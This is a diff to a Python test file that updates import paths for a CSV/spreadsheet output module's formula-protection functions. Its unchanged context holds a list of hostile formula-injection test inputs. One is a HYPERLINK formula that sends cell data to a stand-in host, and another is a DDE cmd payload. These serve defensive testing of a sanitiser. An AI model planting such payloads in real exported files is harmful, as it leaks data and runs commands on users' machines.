@@ -7,9 +7,9 @@ import os
 import pandas as pd
 import pytest
 
-from calibsim_gui.core.analysis import ScoredPairs
+from calibsim_gui.core.analysis.pairs import ScoredPairs
 from calibsim_gui.core.errors import InputError, WriteError
-from calibsim_gui.core.output import check_output_path, protect_formulas, write_scored_pairs
+from calibsim_gui.core.io.output import check_output_path, protect_formulas, write_scored_pairs
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
            "@SUM(A1:A2)", "\tTAB", "\rCR", "plain text", "a = b"]
